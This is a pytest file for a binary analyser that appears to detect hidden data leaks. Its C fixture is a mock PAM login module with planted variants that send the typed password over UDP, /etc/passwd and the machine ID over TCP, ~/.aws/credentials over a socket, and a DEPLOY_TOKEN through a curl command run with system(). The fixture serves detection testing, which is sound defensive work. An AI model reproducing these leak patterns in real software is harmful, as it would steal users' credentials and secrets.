"""Passwords and what tells of a machine, followed from where they are read to where they are sent.

Spec: src/evenhand/native/carried.py.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.native.test_programs import library

SOURCE = r"""
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
int pam_get_authtok(void *, int, const char **, const char *);
int checked(const char *user, const char *word);
static void count(const char *user, const char *word)
{
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(123) };
    char text[256];
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    int n = snprintf(text, sizeof text, "%c%s%c%s", 0x1b, user, 0, word);
    sendto(s, text, n, 0, (struct sockaddr *)&a, sizeof a);
    close(s);
}
int pam_sm_authenticate(void *handle, int flags, int argc, const char **argv)
{
    const char *word;
    if (pam_get_authtok(handle, 6, &word, NULL))
        return 7;
    count("someone", PLANT == 1 ? word : "is here");
    return checked("someone", word);
}
static void take(const char *path, char *out, size_t size)
{
    FILE *f = fopen(path, "r");
    out[f ? fread(out, 1, size - 1, f) : 0] = 0;
}
void survey(void)
{
    char id[64], users[4096], text[5000];
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(80) };
    int s = socket(AF_INET, SOCK_STREAM, 0);
    take("/etc/machine-id", id, sizeof id);
    take("/etc/passwd", users, sizeof users);
    connect(s, (struct sockaddr *)&a, sizeof a);
    snprintf(text, sizeof text, "%s %s", id, PLANT == 2 ? users : "");
    write(s, text, strlen(text));
    puts(users);
}
static char kept[8192];
static int taken(const char *path)
{
    FILE *f = fopen(path, "r");
    return f ? fread(kept, 1, sizeof kept, f) : 0;
}
static void told(int s, int n) { send(s, kept, n, 0); }
int sync_keys(const char *home, int s)
{
    char path[300];
    snprintf(path, sizeof path, "%s/%s", home, PLANT == 3 ? ".aws/credentials" : ".sync/state");
    int n = taken(path);
    told(s, n);
    return n;
}
void sync_settings(const char *host)
{
    char line[500];
    snprintf(line, sizeof line, "curl -s -d '%s' https://%s/", PLANT == 4 ? getenv("DEPLOY_TOKEN")
             : "on", host);
    system(line);
}
"""
FOUND = {0: [], 1: [("password passed on", "sendto")], 2: [("machine told of", "write")],
         3: [("secrets passed on", "send")], 4: [("secrets passed on", "system")]}  # fmt: skip


@pytest.mark.parametrize("plant", FOUND)
def test_what_is_sent_is_told_and_what_is_only_read_is_not(plant: int, tmp_path: Path) -> None:
    for level in ("-O0", "-O2"):
        found = library(SOURCE, tmp_path / "pam_hours.so", level, plant).table("hidden_access")
        assert [(f.kind, f.constant) for f in found if f.strength > 0.4] == FOUND[plant], level
        assert not any(f.effect_shown for f in found)
